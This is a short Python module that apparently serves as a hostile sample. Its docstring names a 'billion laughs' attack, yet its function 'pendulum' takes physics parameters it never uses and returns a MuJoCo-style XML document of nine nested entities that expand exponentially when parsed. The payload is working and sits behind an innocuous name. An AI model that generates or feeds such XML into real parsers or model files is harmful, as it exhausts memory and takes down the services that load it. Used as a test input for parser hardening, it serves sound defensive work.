"""Exponential entity expansion ("billion laughs") hidden in a model's text."""

__all__ = ["pendulum"]


def pendulum(density, gravity, damping=0.0, torque=0.0):
    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE mujoco [{entities}]><mujoco model="&a9;"/>'
